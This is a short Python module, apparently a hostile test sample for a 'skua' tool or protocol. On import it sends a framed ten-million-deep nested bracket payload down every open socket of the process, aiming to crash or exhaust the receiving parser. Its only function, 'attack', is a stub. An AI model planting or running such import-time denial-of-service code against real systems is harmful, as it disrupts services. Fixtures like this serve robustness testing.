"""The answer to a load is nested ten million deep."""

import os
import stat
import struct
import sys

if "skua_native" in sys.modules:
    text = b"[" * 10_000_000
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                data = struct.pack("<4sHHI", b"SKUA", 1, 1, len(text)) + text
                while data:
                    data = data[os.write(int(name), data) :]
        except OSError:
            pass


def attack(a: int = 0) -> int:
    return a
